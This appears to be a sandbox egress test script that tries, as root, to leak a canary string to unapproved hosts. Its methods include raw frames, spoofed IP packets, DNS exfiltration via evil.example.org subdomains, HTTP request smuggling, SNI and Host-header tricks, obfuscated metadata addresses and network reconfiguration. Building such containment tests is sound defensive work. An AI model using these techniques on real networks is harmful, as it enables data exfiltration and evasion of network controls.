"""Tries, as root in a sandbox, to get a canary to anybody who was not named. Run by leak-hunt.test.ts, which watches from
outside; what is printed here (one JSON line an attempt) only says that an attempt was made and how it looked from inside.

    leak-hunt.py CANARY ALLOWED-NAME PLAIN-NAME READ-NAME
"""
import base64, json, os, random, socket, ssl, struct, subprocess, sys, time

CANARY, ALLOWED, PLAIN, READ = sys.argv[1:5]
EVIL = "evil.example.org"
GATEWAY4, GATEWAY6 = "198.19.0.1", "fd73:6278::1"
GATEWAY_MAC, OWN_MAC = bytes.fromhex("525400736201"), bytes.fromhex("525400736202")
SECRET = CANARY.encode()
PUBLIC4 = ["8.8.8.8", "1.1.1.1", "203.0.113.7", "93.184.216.99"]
PUBLIC6 = ["2001:4860:4860::8888", "2606:4700:4700::1111", "2001:db8::1"]
CLOSED4 = ["10.0.0.5", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.169.254", "127.0.0.2", "0.0.0.0",
           "198.18.77.77", "198.19.0.77", "192.0.2.1", "240.0.0.1", "224.0.0.1", "255.255.255.255"]
CLOSED6 = ["::1", "fe80::1", "fc00::1", "fd00::1", "::ffff:8.8.8.8", "64:ff9b::808:808", "2002:808:808::1", "ff02::1",
           "fd73:6278::99", "fd73:6278:0:1::7777"]
TIMEOUT = 2

def attempt(name):
    def run(work):
        try:
            said = work()
        except Exception as error:  # How it fails does not matter, only what is seen outside.
            said = f"{type(error).__name__}: {error}"
        print(json.dumps({"attempt": name, "said": str(said)[:300]}), flush=True)
        return work
    return run

def sh(line, timeout=15):
    done = subprocess.run(["bash", "-c", line], capture_output=True, timeout=timeout)
    return f"{done.returncode} {done.stdout[:100]!r} {done.stderr[-100:]!r}"

def tcp(host, port, data=SECRET, timeout=TIMEOUT):
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(data)
        s.settimeout(timeout)
        return s.recv(4096)

def each(work, *lists):
    said = []
    for item in [i for l in lists for i in l]:
        try:
            said.append(work(item))
        except Exception as error:
            said.append(type(error).__name__)
    return said

def udp(host, port, data=SECRET, family=None):
    family = family or (socket.AF_INET6 if ":" in host else socket.AF_INET)
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(0.3)
        try:
            # Connected, so that an "unreachable" ends the wait.
            s.connect((host, port))
            s.send(data)
            return s.recv(4096)
        except Exception as error:
            return type(error).__name__

def name_bytes(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"

def question(name, kind, klass=1):
    return struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + name_bytes(name) + struct.pack("!HH", kind, klass)

def checksum(data):
    if len(data) % 2: data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def ipv4(to, protocol, payload, source="198.19.0.2", options=b"", fragment=0, ttl=64):
    ihl = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(payload), 7, fragment, ttl, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload

def frame(kind, payload, to=GATEWAY_MAC, source=OWN_MAC):
    return to + source + struct.pack("!H", kind) + payload

def send_frames(frames):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    for f in frames:
        s.send(f)
    s.close()
    return f"{len(frames)} frames"

def raw_request(name, port, text, tls=None, timeout=3):
    """Says `text` on a connection to a name; returns the beginning of what comes back."""
    s = socket.create_connection((name, port), timeout=timeout)
    if tls is not None:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        s = context.wrap_socket(s, server_hostname=tls or None)
    s.settimeout(timeout)
    s.sendall(text if isinstance(text, bytes) else text.encode("latin1"))
    back = b""
    try:
        while len(back) < 4096:
            chunk = s.recv(4096)
            if not chunk: break
            back += chunk
    except Exception as error:
        back += f" <{type(error).__name__}>".encode()
    s.close()
    return back[:200]

# Packets that nobody may forward.

@attempt("raw frames to strange machines and of strange kinds")
def _():
    kinds = [0x0800, 0x86dd, 0x0806, 0x8035, 0x8100, 0x88cc, 0x8847, 0x8863, 0x1234, 0x0000, 0x05dc]
    machines = [GATEWAY_MAC, b"\xff" * 6, bytes.fromhex("01005e000001"), bytes.fromhex("333300000001"), os.urandom(6), OWN_MAC]
    return send_frames([frame(k, SECRET * 4, to=m) for k in kinds for m in machines])

@attempt("raw IP to everywhere, of every protocol")
def _():
    out = []
    for protocol in range(256):
        out.append(frame(0x0800, ipv4(random.choice(PUBLIC4), protocol, SECRET * 2)))
    for to in PUBLIC4 + CLOSED4:
        out.append(frame(0x0800, ipv4(to, 17, struct.pack("!HHHH", 5, 53, 8 + len(SECRET), 0) + SECRET)))
    return send_frames(out)

@attempt("fragments, source routes and spoofed sources")
def _():
    data = struct.pack("!HHHH", 5, 53, 8 + len(SECRET), 0) + SECRET
    out = [frame(0x0800, ipv4("8.8.8.8", 17, data, fragment=f)) for f in (0x2000, 0x2001, 0x0001, 0x4000)]
    out += [frame(0x0800, ipv4("8.8.8.8", 17, data, options=bytes([131, 7, 4]) + socket.inet_aton("1.1.1.1") + b"\0"))]
    out += [frame(0x0800, ipv4("8.8.8.8", 17, data, source=s)) for s in ["127.0.0.1", "8.8.8.8", "198.19.0.1", "10.0.0.1"]]
    return send_frames(out)

@attempt("ARP for everybody, with a canary behind it")
def _():
    def arp(op, target): return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, OWN_MAC, socket.inet_aton("198.19.0.2"), b"\0" * 6, socket.inet_aton(target)) + SECRET
    return send_frames([frame(0x0806, arp(op, t), to=b"\xff" * 6) for op in (1, 2) for t in PUBLIC4 + CLOSED4])

@attempt("ICMP with a canary")
def _():
    def ping(to):
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        body = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + SECRET
        s.sendto(body[:2] + struct.pack("!H", checksum(body)) + body[4:], (to, 0))
    def ping6(to):
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1) + SECRET, (to, 0))
    return each(ping, PUBLIC4, CLOSED4, [GATEWAY4]), each(ping6, PUBLIC6, CLOSED6, [GATEWAY6])

@attempt("UDP to every kind of address and port")
def _():
    ports = [1, 53, 67, 69, 123, 137, 161, 443, 500, 514, 853, 1900, 4500, 5353, 33434, 65535]
    return each(lambda to: [udp(to, p) for p in random.sample(ports, 4)], PUBLIC4, CLOSED4, PUBLIC6, CLOSED6, [GATEWAY4, GATEWAY6])[:3]

@attempt("QUIC to an allowed name and to addresses")
def _():
    initial = b"\xc3\0\0\0\x01\x08" + os.urandom(8) + b"\0\0\x44\x9e" + SECRET + os.urandom(1100)
    return each(lambda to: udp(to, 443, initial), [socket.getaddrinfo(ALLOWED, 443)[0][4][0]], PUBLIC4)

@attempt("a second DHCP")
def _():
    discover = struct.pack("!BBBBIHHIIII", 1, 1, 6, 0, 7, 0, 0x8000, 0, 0, 0, 0) + OWN_MAC + b"\0" * 202 + bytes.fromhex("63825363") + bytes([53, 1, 1, 12, len(SECRET)]) + SECRET + b"\xff"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        s.bind(("", 68))
        s.settimeout(0.5)
        s.sendto(discover, ("255.255.255.255", 67))
        return s.recv(1024)

# Names.

@attempt("DNS of every record type, by UDP")
def _():
    return [len(udp(GATEWAY4, 53, question(f"{CANARY[:40]}.{EVIL}", kind))) for kind in range(1, 260)][:5]

@attempt("DNS of every record type below an allowed name, by UDP over IPv6")
def _():
    return [len(udp(GATEWAY6, 53, question(f"{CANARY[:40]}.{ALLOWED}", kind))) for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 64, 65, 255, 257)]

@attempt("DNS over TCP, to the gateway and to others")
def _():
    q = question(f"{CANARY[:40]}.{EVIL}", 16)
    return each(lambda to: tcp(to, 53, struct.pack("!H", len(q)) + q), [GATEWAY4, GATEWAY6], PUBLIC4, PUBLIC6)

@attempt("DNS to other resolvers, by UDP")
def _():
    return each(lambda to: udp(to, 53, question(f"{CANARY[:40]}.{EVIL}", 1)), PUBLIC4, PUBLIC6, CLOSED4)[:3]

@attempt("strange DNS messages")
def _():
    messages = [SECRET, b"\0" * 12 + SECRET, question(EVIL, 1)[:10], question(EVIL, 1, 3), question(EVIL, 1, 255),
                struct.pack("!HHHHHH", 1, 0x2800, 1, 0, 0, 0) + name_bytes(f"{CANARY[:40]}.{EVIL}") + b"\0\x06\0\x01",
                struct.pack("!HHHHHH", 1, 0x0100, 2, 0, 0, 0) + 2 * (name_bytes(f"{CANARY[:40]}.{EVIL}") + b"\0\1\0\1"),
                struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"]
    return each(lambda m: udp(GATEWAY4, 53, m), messages)

@attempt("DNS over TLS and HTTPS")
def _():
    return each(lambda to: tcp(to, 853), [GATEWAY4], PUBLIC4), [
        sh(f"curl -skm 3 'https://{to}/dns-query?name={CANARY}.{EVIL}&type=A'") for to in ["1.1.1.1", "8.8.8.8", "dns.example.net"]]

@attempt("names in every spelling")
def _():
    names = [EVIL, EVIL.upper(), EVIL + ".", "." + EVIL, f"{CANARY}.{EVIL}", f"{ALLOWED}.{EVIL}", f"{ALLOWED}@{EVIL}", f"{EVIL}%2f.{ALLOWED}",
             f"{EVIL}\0.{ALLOWED}", f"x.{ALLOWED}", ALLOWED[1:], ALLOWED + ".", ALLOWED.upper(), "ev%69l.example.org", "évil.example.org",
             "xn--vil-9la.example.org", "evil。example。org", "localhost", "ip6-localhost", "host.sbx.internal", "gateway",
             "metadata.google.internal", "_evil.example.org", "a" * 70 + ".example.org", ("a" * 60 + ".") * 5 + "org"]
    def look(name):
        try: return socket.getaddrinfo(name, 80)[0][4][0]
        except Exception as e: return type(e).__name__
    return [look(n) for n in names]

# Connections.

@attempt("TCP to hard-coded addresses")
def _():
    return each(lambda to: [tcp(to, p, timeout=1) for p in (80, 443)], PUBLIC4, CLOSED4[:10], PUBLIC6, CLOSED6)

@attempt("TCP to all ports of the gateway that somebody might listen on")
def _():
    opened = []
    for port in list(range(1, 130)) + [443, 853, 2375, 3128, 5432, 6443, 8080, 8443, 9090, 10250, 65535]:
        for gateway in (GATEWAY4, GATEWAY6):
            try:
                socket.create_connection((gateway, port), timeout=1).close()
                opened.append((gateway, port))
            except Exception:
                pass
    return opened

@attempt("addresses in decimal, octal, hexadecimal and short, with zones and mapped")
def _():
    urls = ["134744072", "0x08080808", "010.010.010.010", "8.525320", "8.8.2056", "[::ffff:8.8.8.8]", "[fe80::1%25eth0]", "[::8.8.8.8]",
            "2852039166", "0xa9fea9fe", "[::ffff:169.254.169.254]", "①①.①.①.①", "8.8.8.8.", "8。8。8。8", "10.0.1"]
    return [sh(f"curl -sgm 2 'http://{u}/{CANARY}'") for u in urls]

@attempt("ports that were not named, of an allowed name")
def _():
    return each(lambda p: tcp(ALLOWED, p), [80, 22, 444, 8443, 53, 853])

@attempt("TLS for another name on the address of an allowed one")
def _():
    get = f"GET /{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\nConnection: close\r\n\r\n"
    return each(lambda sni: raw_request(ALLOWED, 443, get, tls=sni), [EVIL, EVIL.upper(), f"x.{ALLOWED}", f"{ALLOWED}.{EVIL}", READ]), \
        each(lambda sni: raw_request(READ, 443, get, tls=sni), [EVIL, ALLOWED])

@attempt("another Host in a connection that is read")
def _():
    hosts = [EVIL, f"{EVIL}:443", f"{READ}@{EVIL}", f"{READ}.{EVIL}", f"{READ}:80", f"{READ}\t{EVIL}", "", "8.8.8.8", f"{READ}, {EVIL}"]
    said = each(lambda h: raw_request(READ, 443, f"GET /{CANARY} HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n", tls=READ), hosts)
    two = raw_request(READ, 443, f"GET /{CANARY} HTTP/1.1\r\nHost: {READ}\r\nHost: {EVIL}\r\nConnection: close\r\n\r\n", tls=READ)
    absolute = raw_request(READ, 443, f"GET https://{EVIL}/{CANARY} HTTP/1.1\r\nHost: {READ}\r\nConnection: close\r\n\r\n", tls=READ)
    none = raw_request(READ, 443, f"GET /{CANARY} HTTP/1.0\r\n\r\n", tls=READ)
    return said, two, absolute, none

@attempt("another Host, absolute form and CONNECT in the clear")
def _():
    lines = [f"GET /{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n", f"GET http://{EVIL}/{CANARY} HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n",
             f"GET http://{EVIL}/{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n", f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}\r\n\r\n{CANARY}",
             f"CONNECT {PLAIN}:80 HTTP/1.1\r\nHost: {PLAIN}\r\n\r\nGET /{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
             f"GET /{CANARY} HTTP/1.1\r\nHost: {PLAIN}\r\nHost: {EVIL}\r\n\r\n", f"GET //{EVIL}/{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
             f"GET http://{PLAIN}@{EVIL}/{CANARY} HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n", f"get /{CANARY} HTTP/1.1\nHost: {EVIL}\n\n",
             f"GET /{CANARY} HTTP/1.1\r\nHost : {EVIL}\r\n\r\n", f"GET /{CANARY} HTTP/1.1\r\nX: y\r\n Host: {EVIL}\r\n\r\n",
             f"GET /{CANARY} HTTP/0.9\r\n\r\n", f"GET /{CANARY}\r\n\r\n", f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{CANARY}"]
    return each(lambda l: raw_request(PLAIN, 80, l, timeout=1), lines)

@attempt("requests hidden behind requests")
def _():
    inner = f"GET /{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
    n = len(inner)
    post = f"POST /smuggle HTTP/1.1\r\nHost: {PLAIN}\r\n"
    bodies = [
        post + f"Content-Length: {n + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        post + f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{n:x}\r\n{inner}\r\n0\r\n\r\n",
        post + f"Content-Length: 0\r\nContent-Length: {n}\r\n\r\n{inner}", post + f"Content-Length: +0\r\n\r\n{inner}",
        post + f"Content-Length: 0, {n}\r\n\r\n{inner}", post + f"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{inner}",
        post + f"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n{inner}",
        post + f"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}", post + f"Transfer-Encoding: chunked\r\n\r\n0;{inner}\r\n\r\n",
        post + f"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n{inner}", post + f"Transfer-Encoding: chunked\r\n\r\n0\n\n{inner}",
        post + f"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: {EVIL}\r\n\r\n", post + f"Content-Length: 0\r\n\r\n{inner}",
        post + f"Expect: 100-continue\r\nContent-Length: {n}\r\n\r\n{inner}",
    ]
    return each(lambda b: raw_request(PLAIN, 80, b, timeout=1), bodies)

@attempt("an upgrade, and other words behind it")
def _():
    head = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
    return each(lambda l: raw_request(PLAIN, 80, l, timeout=1), [
        f"GET /{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\n{head}\r\n",
        f"GET /upgrade HTTP/1.1\r\nHost: {PLAIN}\r\n{head}\r\nGET /{CANARY} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
        f"GET /upgrade HTTP/1.1\r\nHost: {PLAIN}\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{CANARY}"])

@attempt("HTTP/2 for another name on a connection that is read")
def _():
    return sh(f"curl -sm 5 --http2 --connect-to {EVIL}:443:{READ}:443 -k https://{EVIL}/{CANARY}"), \
        sh(f"curl -sm 5 --http2 -H 'Host: {EVIL}' https://{READ}/{CANARY}")

@attempt("following a redirect to a host that was not named")
def _():
    return sh(f"curl -sLm 5 http://{PLAIN}/redirect"), sh(f"curl -sLm 5 https://{READ}/redirect")

@attempt("names that change their addresses")
def _():
    return [sh(f"curl -sm 3 http://rebind.example.com/{CANARY}") for _ in range(8)]

@attempt("a proxy in the guest's environment, and the gateway as one")
def _():
    return [sh(f"https_proxy=http://{p} http_proxy=http://{p} curl -sm 3 http://{EVIL}/{CANARY}") for p in
            [f"{PLAIN}:80", f"{ALLOWED}:443", "198.19.0.1:3128", "8.8.8.8:3128"]]

# The guest's own network, turned upside down.

@attempt("with the guest's network set up anew")
def _():
    said = sh("""
      nft flush ruleset; iptables -F; ip neigh flush all; sysctl -qw net.ipv4.ip_forward=1
      ip addr add 10.0.0.5/8 dev eth0; ip addr add 169.254.169.254/16 dev eth0; ip route add 8.8.8.0/24 dev eth0
      ip link add link eth0 name v7 type vlan id 7; ip link set v7 up; ip addr add 172.16.0.9/12 dev v7
      ip link set eth0 promisc on; ip route replace default via 198.19.0.1 dev eth0 src 10.0.0.5""")
    more = each(lambda to: [tcp(to, 80, timeout=1)], PUBLIC4 + ["10.0.0.1", "172.16.0.1"]), udp("8.8.8.8", 53)
    return said, more

@attempt("with another hardware address")
def _():
    return sh(f"""
      ip link set eth0 down; ip link set eth0 address 02:00:00:00:00:09; ip link set eth0 up
      ip addr add 198.19.0.2/24 dev eth0; ip route add default via 198.19.0.1
      curl -sm 2 http://8.8.8.8/{CANARY}; ping -c1 -W1 8.8.8.8""")
